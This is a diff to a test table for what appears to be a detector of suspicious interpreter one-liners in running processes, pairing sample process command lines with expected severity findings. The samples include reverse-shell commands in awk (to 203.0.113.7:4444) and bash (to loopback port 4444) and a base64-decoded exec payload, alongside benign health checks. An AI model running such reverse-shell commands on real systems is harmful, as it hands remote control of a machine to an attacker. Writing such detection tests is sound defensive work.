@@ -78,6 +78,8 @@ answers(interpreterOneLiner, [
   ['one in awk', { processes: [started(5, '/usr/bin/gawk', ['awk', 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while (s |& getline c) c |& getline}'])] }, ['5 high']],
   ['code that hides itself', { processes: [python('exec(__import__("base64").b64decode("aW1wb3J0IG9z"))')] }, ['5 high']],
   ['a health check', { processes: [python('import socket; socket.create_connection(("127.0.0.1", 8080), 2).close()')] }, []],
+  ['with less confidence a health check of bash, which asks its own container', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health HTTP/1.1\\r\\n" >&3; timeout 1 cat <&3 | grep -q UP'])] }, ['5 low']],
+  ['a shell on the loopback interface', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'])] }, ['5 high']],
   ['a shell’s loop', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'while true; do sleep 1; done'])] }, []],
   ['a program file', { processes: [started(5, '/usr/bin/python3', ['python3', '/app/pty.spawn.py'])] }, []],
 ]);
